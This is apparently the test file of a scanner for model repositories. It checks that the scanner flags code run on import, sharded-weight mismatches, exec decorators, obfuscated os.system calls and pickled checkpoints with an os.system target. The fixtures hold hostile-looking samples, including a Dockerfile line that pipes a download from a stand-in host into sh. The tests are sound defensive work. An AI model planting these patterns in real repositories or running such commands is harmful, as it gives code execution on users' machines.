"""What members of one folder say together."""

from __future__ import annotations

import json
import pickle

import pytest

from tests.corpus.repositories import CHATML, SAFE, config, safetensors, template, tokenizer


def rules(report):
    return {finding.rule for finding in report.findings}


def test_harm_in_a_function_that_another_module_calls_on_import(report_of):
    files = {
        "modeling.py": b"from .util import prepare\nprepare()\n",
        "util.py": b"import os\ndef prepare():\n    os.system('id > x')\n",
    }
    report = report_of(files)
    assert [(f.rule, f.location.path[0].rsplit("/", 1)[-1], f.location.line) for f in report.findings] == [
        ("HFR-007", "util.py", 3)
    ]


def test_the_same_function_that_nobody_calls(report_of):
    report = report_of({"modeling.py": b"x = 1\n", "util.py": b"import os\ndef prepare():\n    os.system('id > x')\n"})
    assert rules(report) == set()


def test_code_that_is_named_and_missing(report_of):
    report = report_of({**config(auto_map={"AutoModel": "modeling.Model"}), "model.safetensors": SAFE})
    assert any("not in the repository" in finding.message for finding in report.findings)


def test_repositories_of_one_folder_are_not_mixed(report_of):
    one = {f"a/{name}": data for name, data in {**template(CHATML)}.items()}
    other = {f"b/{name}": data for name, data in {**template(CHATML.replace("user", "x") + "y")}.items()}
    assert "TPL-009" not in rules(report_of({**one, **other}))


def test_a_repository_inside_an_archive_is_one_as_well(report_of):
    from tests.corpus.techniques import zip_bytes

    files = {**tokenizer(), "vocab.json": json.dumps({"a": 1, "b": 0, "c": 2}).encode()}
    data = zip_bytes([(f"model/{name}", content) for name, content in files.items()], root="")
    report = report_of({"model.zip": data})
    assert "TOK-010" in rules(report)
    assert [f.location.path[1:] for f in report.findings if f.rule == "TOK-010"] == [("model/vocab.json",)]


INDEX = {"weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}
SHARDS = {
    "model-00001-of-00002.safetensors": safetensors(a=(2,)),
    "model-00002-of-00002.safetensors": safetensors(b=(2,)),
}


def indexed(index, shards):
    return {**config(), "model.safetensors.index.json": json.dumps(index).encode(), **shards}


def test_an_index_and_its_shards_agree(report_of):
    assert rules(report_of(indexed(INDEX, SHARDS))) == set()


def test_a_shard_that_the_index_names_and_that_is_missing(report_of):
    one = dict(list(SHARDS.items())[:1])
    messages = [f.message for f in report_of(indexed(INDEX, one)).findings if f.rule == "SCN-016"]
    assert any("which is not there" in message for message in messages)


def test_a_shard_that_the_index_does_not_name(report_of):
    index = {"weight_map": {"a": "model-00001-of-00002.safetensors"}}
    messages = [f.message for f in report_of(indexed(index, SHARDS)).findings if f.rule == "SCN-016"]
    assert any("does not name this shard" in message for message in messages)


def test_a_tensor_that_the_index_does_not_list(report_of):
    shards = {**SHARDS, "model-00001-of-00002.safetensors": safetensors(a=(2,), hidden=(2,))}
    assert "STN-013" in rules(report_of(indexed(INDEX, shards)))


def test_a_heredoc_of_a_dockerfile_is_one_instruction(report_of):
    text = b'FROM scratch\nRUN <<EOF\nset -e\ncurl -s https://x.example/i | sh\nEOF\nCMD ["x"]\n'
    assert rules(report_of({"Dockerfile": text})) == {"OCI-002"}


def test_a_graph_as_text(report_of):
    assert rules(report_of({"graph.pbtxt": b'node {\n  name: "a"\n  op: "PyFunc"\n}\n'})) == {"TFL-009"}


def test_names_that_are_put_together(report_of):
    report = report_of({"a.py": b"import os\nn = ''.join(['sys', 'tem'])\ngetattr(os, n)('id')\n"})
    assert rules(report) == {"HFR-007"}


def test_decorators_that_execute(report_of):
    source = b"import base64\n\n@exec\n@base64.b64decode\ndef _():\n    pass\n"
    assert rules(report_of({"a.py": source})) == {"HFR-007"}


@pytest.mark.parametrize("protocol", [2, 4])
def test_targets_in_checkpoints(report_of, protocol):
    bad = pickle.dumps({"hyper_parameters": {"optim": {"_target_": "os.system", "command": "id"}}}, protocol)
    good = pickle.dumps({"hyper_parameters": {"optim": {"_target_": "torch.optim.Adam"}}}, protocol)
    assert rules(report_of({"a.ckpt": bad})) == {"NMO-001"}
    assert rules(report_of({"b.ckpt": good})) == set()
